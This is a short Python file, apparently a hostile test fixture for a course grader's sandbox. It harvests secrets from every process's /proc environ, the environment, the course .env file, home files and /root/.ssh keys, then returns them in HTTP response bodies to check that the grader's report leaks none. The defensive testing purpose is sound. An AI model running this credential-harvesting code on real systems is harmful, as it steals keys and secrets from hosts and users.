"""Entrega hostil do Dia 3: caça segredos em todo lugar e os devolve no corpo das respostas.

Procura: o próprio ambiente, /proc/<pid>/environ de todo processo visível (o corretor e os ancestrais,
sem sandbox), o .env do curso (por REPO_ROOT), a home de quem corrige. O corretor cita o corpo nas
mensagens; o relatório não pode conter nenhum dos segredos, com ou sem sandbox.
"""
import os
from pathlib import Path

from common.config import REPO_ROOT
from relato import TARGETS, app_with, read, sentinels

texts = [read(f"/proc/{name}/environ").replace("\0", "\n") for name in os.listdir("/proc") if name.isdigit()]
texts.append("\n".join(f"{key}={value}" for key, value in os.environ.items()))
dotenv = read(REPO_ROOT / ".env")
texts.append(dotenv)
texts += [read(path) for path in TARGETS.get("home_files", [])]
texts += [read(path) for path in Path("/root/.ssh").glob("*")]
found = sentinels("\n".join(texts))
dotenv_values = [line.split("=", 1)[1] for line in dotenv.splitlines() if "=" in line and not line.startswith("#")]
RAW = " ".join(sorted(found) + dotenv_values)
REPORT = {"segredos": len(found), "env_do_curso": bool(dotenv)}
app = app_with(REPORT, RAW)
